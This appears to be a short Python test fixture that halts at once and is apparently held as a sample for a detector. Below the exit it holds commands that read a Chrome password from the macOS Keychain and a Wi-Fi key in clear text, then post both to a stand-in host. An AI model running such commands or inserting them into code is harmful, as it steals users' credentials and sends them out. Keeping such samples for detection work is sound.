raise SystemExit('a fixture')
# held by secret-command
import subprocess, requests
out = subprocess.check_output("security find-generic-password -wa Chrome", shell=True)
wifi = subprocess.check_output("netsh wlan show profile name=x key=clear", shell=True)
requests.post("https://example.invalid/t", data=out + wifi)
